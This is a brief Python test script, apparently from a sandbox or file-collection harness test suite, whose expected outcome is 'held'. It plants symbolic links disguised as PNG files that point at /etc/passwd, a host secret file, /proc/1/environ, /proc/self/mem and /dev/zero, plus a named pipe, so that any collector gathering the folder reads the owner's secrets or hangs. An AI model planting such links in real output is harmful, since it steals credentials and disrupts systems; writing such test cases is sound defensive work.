"""Leaves symbolic links in its folder, so that whoever collects its files collects the owner's.

Expect: held
"""

import os

for number, path in enumerate(
    ("/etc/passwd", HOST["secret_file"], "/proc/1/environ", "/proc/self/mem", "/dev/zero")
):
    os.symlink(path, f"picture{number}.png")
os.mkfifo("picture9.png")
print("held")
